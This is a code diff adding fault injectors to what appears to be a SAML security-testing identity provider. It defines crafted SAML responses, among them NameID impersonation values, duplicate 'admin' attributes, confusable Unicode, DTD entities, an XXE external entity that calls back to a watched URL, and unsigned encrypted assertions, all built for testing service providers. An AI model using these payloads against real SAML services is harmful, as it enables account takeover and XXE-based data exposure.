+register(Fault("nameid-empty", "Empty NameID element", ("NID-02",), tree=_nameid_empty))
+
+
+@register_factory("nameid-format", "NameID Format changed (email, persistent, transient, unspecified or a URN)",
+                  ("NID-03",), format="persistent")
+def _nameid_format(format: str) -> Fault:
+    from .users import NAMEID_FORMATS
+
+    fmt = NAMEID_FORMATS.get(format, format)
+    return Fault("", "", spec=lambda s, ctx: replace(s, user=replace(s.user, name_id_format=fmt)))
+
+
+@register_factory("nameid-value", "NameID set to the given value (victim, confusable, too long, ...)",
+                  ("NID-04", "NID-07", "NID-09", "TEN-06"), value="victim@example.com")
+def _nameid_value(value: str) -> Fault:
+    return Fault("", "", spec=lambda s, ctx: replace(s, user=replace(s.user, name_id=value)))
+
+
+# ----------------------------------------------------------------------------- ATTR
+def _attr_spec(
+    fn: Callable[[dict[str, list[str]], str], None],
+    name: str | None,
+    where: Callable[[list[str]], bool] | None = None,
+) -> Callable[[ResponseSpec, FaultContext], ResponseSpec]:
+    def spec(s: ResponseSpec, ctx: FaultContext) -> ResponseSpec:
+        attrs = {k: list(v) for k, v in s.user.attributes.items()}
+        n = _pick_attr(s, name, where=where)
+        ctx.notes["attribute"] = n
+        fn(attrs, n)
+        return _with_attrs(s, attrs)
+
+    return spec
+
+
+def _rename(attrs: dict[str, list[str]], old: str, new: str) -> None:
+    items = list(attrs.items())
+    attrs.clear()
+    for k, v in items:
+        attrs[new if k == old else k] = v
+
+
+def _misspell(n: str) -> str:
+    if len(n) < 3:
+        return n + n[-1]
+    i = len(n) // 2
+    swapped = n[: i - 1] + n[i] + n[i - 1] + n[i + 1:]
+    return swapped if swapped != n else n + n[-1]
+
+
+def _case_change(n: str) -> str:
+    return n.lower() if n != n.lower() else n[:1].upper() + n[1:]
+
+
+@register_factory("attr-missing", "One attribute left out (default: the email attribute)", ("ATTR-01",), name=None)
+def _attr_missing(name: str | None) -> Fault:
+    return Fault("", "", spec=_attr_spec(lambda a, n: a.pop(n), name))
+
+
+@register_factory("attr-misspelt", "One attribute name misspelt (two letters swapped)", ("ATTR-01", "ATTR-05"), name=None)
+def _attr_misspelt(name: str | None) -> Fault:
+    return Fault("", "", spec=_attr_spec(lambda a, n: _rename(a, n, _misspell(n)), name))
+
+
+@register_factory("attr-case", "One attribute name with its case changed (Email -> email, role -> Role)", ("ATTR-05",), name=None)
+def _attr_case(name: str | None) -> Fault:
+    return Fault("", "", spec=_attr_spec(lambda a, n: _rename(a, n, _case_change(n)), name))
+
+
+@register_factory("attr-duplicate", "A second Attribute element with the same name and another value", ("ATTR-03",),
+                  name=None, value="admin")
+def _attr_duplicate(name: str | None, value: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        n = _pick_attr(ctx.spec, name)
+        attr = _attr_el(root, n)
+        dup = copy.deepcopy(attr)
+        for av in dup.findall(q(SAML, "AttributeValue"))[1:]:
+            dup.remove(av)
+        dup.find(q(SAML, "AttributeValue")).text = str(value)
+        attr.addnext(dup)
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("attr-empty", "One attribute sent with a single empty AttributeValue", ("ATTR-11",), name=None)
+def _attr_empty(name: str | None) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        attr = _attr_el(root, _pick_attr(ctx.spec, name))
+        avs = attr.findall(q(SAML, "AttributeValue"))
+        for av in avs[1:]:
+            attr.remove(av)
+        avs[0].text = None
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("attr-comma-joined", "A multi-valued attribute sent as one comma-joined AttributeValue",
+                  ("ATTR-06", "POS-09"), name=None, sep=",")  # default: the first multi-valued attribute
+def _attr_joined(name: str | None, sep: str) -> Fault:
+    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [sep.join(a[n])]), name, lambda v: len(v) > 1))
+
+
+@register_factory("attr-multi-valued", "A comma-joined attribute value split into several AttributeValues",
+                  ("ATTR-08", "POS-09"), name=None, sep=",")
+def _attr_split(name: str | None, sep: str) -> Fault:
+    return Fault("", "", spec=_attr_spec(
+        lambda a, n: a.__setitem__(n, [p.strip() for v in a[n] for p in v.split(sep)]), name,
+        lambda v: any(sep in x for x in v)))
+
+
+@register_factory("attr-value", "One attribute's values replaced by the given value", ("ATTR-09", "TEN-03", "ATTR-13"),
+                  name=None, value="admin")
+def _attr_value(name: str | None, value: str) -> Fault:
+    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [str(value)]), name))
+
+
+_PRESETS = {
+    "attr-commas": ("Doe, John", "A value containing a comma and a space", ("ATTR-07",)),
+    "attr-spaces": ("  padded  value  ", "A value with leading, trailing and doubled spaces", ("ATTR-09",)),
+    "attr-unicode": ("Zoë Ångström 测试 аdmin \u200b", "A value with accents, CJK, a Cyrillic confusable and a zero-width space",
+                     ("ATTR-09", "NID-09")),
+}
+for _fid, (_value, _desc, _refs) in _PRESETS.items():
+    def _preset(name: str | None, _v: str = _value) -> Fault:
+        return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, [_v]), name))
+
+    register_factory(_fid, _desc, _refs, name=None)(_preset)
+
+
+@register_factory("attr-long", "One attribute value of extreme length (default 10 000 characters)", ("ATTR-12",),
+                  name=None, length=10000)
+def _attr_long(name: str | None, length: int) -> Fault:
+    return Fault("", "", spec=_attr_spec(lambda a, n: a.__setitem__(n, ["x" * int(length)]), name))
+
+
+# ----------------------------------------------------------------------------- XML: DTDs and entities
+def _doctype(xml: bytes, doctype: bytes) -> bytes:
+    if xml.startswith(b"<?xml"):
+        end = xml.index(b"?>") + 2
+        return xml[:end] + b"\n" + doctype + b"\n" + xml[end:]
+    return doctype + b"\n" + xml
+
+
+def _dtd_harmless(xml: bytes, ctx: FaultContext) -> bytes:
+    return _doctype(xml, b"<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>")
+
+
+register(Fault("dtd-harmless", "A harmless internal DTD before the (validly signed) Response", ("XML-01", "SAML2Int SDP-G03"),
+               bytes_=_dtd_harmless))
+
+
+def _dtd_entity(xml: bytes, ctx: FaultContext) -> bytes:
+    import html
+
+    name_id = ctx.spec.user.name_id
+    esc = html.escape(name_id, quote=False).encode()
+    needle = b">" + esc + b"</saml:NameID>"
+    if needle not in xml:
+        raise ValueError("NameID text not found for the entity reference")
+    value = html.escape(name_id, quote=True).encode()
+    xml = xml.replace(needle, b">&nameid;</saml:NameID>", 1)
+    return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ENTITY nameid "' + value + b'">]>')
+
+
+register(Fault("dtd-internal-entity",
+               "Internal DTD entity whose value is the NameID, referenced in NameID (signature valid once expanded)",
+               ("XML-01", "XML-05"), bytes_=_dtd_entity))
+
+
+@register_factory("xxe-external",
+                  "External parameter entity pointing at a loopback URL the IdP watches (a fetch by the SP is recorded)",
+                  ("XML-02", "XML-04", "CVE-2016-10149"), general=False)
+def _xxe(general: bool) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        token = ctx.notes.setdefault("oob_token", secrets.token_hex(8))
+        url = ctx.idp.oob_url(token, "xxe")
+        ctx.notes["oob_url"] = url
+        if general:
+            xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
+            return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "{url}">]>'.encode())
+        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY % xxe SYSTEM "{url}"> %xxe;]>'.encode())
+
+    return Fault("", "", bytes_=b)
+
+
+# ----------------------------------------------------------------------------- ENC
+@register_factory("encrypted-assertion", "Assertion encrypted to the SP's encryption cert (EncryptedAssertion)",
+                  ("POS-05", "SAML Core 6.2", "SAML2Int SDP-ALG01"), block="aes256-gcm", key_transport="rsa-oaep")
+def _encrypted(block: str, key_transport: str) -> Fault:
+    def signing(s: SigningOptions, ctx: FaultContext) -> None:
+        s.encrypt = True
+        s.encryption = {**s.encryption, "block": block, "key_transport": key_transport}
+
+    return Fault("", "", signing=signing)
+
+
+@register_factory("encrypted-unsigned", "EncryptedAssertion whose inner Assertion is unsigned, Response unsigned",
+                  ("ENC-02",), block="aes256-gcm")
+def _enc_unsigned(block: str) -> Fault:
+    def signing(s: SigningOptions, ctx: FaultContext) -> None:
+        s.encrypt, s.sign_assertion, s.sign_response = True, False, False
+        s.encryption = {**s.encryption, "block": block}
+
+    return Fault("", "", signing=signing)
